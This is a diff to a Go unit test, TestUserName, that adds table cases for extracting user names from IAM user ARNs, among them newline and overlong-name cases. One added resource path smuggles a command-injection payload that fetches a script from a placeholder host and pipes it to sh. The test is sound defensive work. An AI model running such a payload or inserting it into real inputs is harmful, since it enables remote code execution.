@@ -165,9 +165,12 @@ func TestUserName(t *testing.T) {
 	c := playbook.UnusedCredentials()[0]
 	env := controltest.Env(t, world, c, userPrefix+"eve")
 	for resource, want := range map[string]string{
-		userPrefix + "eve":                        "eve",
-		userPrefix + "division/team/eve@corp.net": "eve@corp.net",
-		"arn:aws-us-gov:iam::222222222222:user/a": "a",
+		userPrefix + "eve":                             "eve",
+		userPrefix + "division/team/eve@corp.net":      "eve@corp.net",
+		userPrefix + "$(curl$IFS$19e.io|sh)/bob":       "bob", // a path may hold any sign that shows
+		userPrefix + "a\nb/bob":                        "",
+		userPrefix + strings.Repeat("a", 511) + "/bob": "",
+		"arn:aws-us-gov:iam::222222222222:user/a":      "a",
 		userPrefix:                         "",
 		userPrefix + "*":                   "",
 		userPrefix + "a b":                 "",
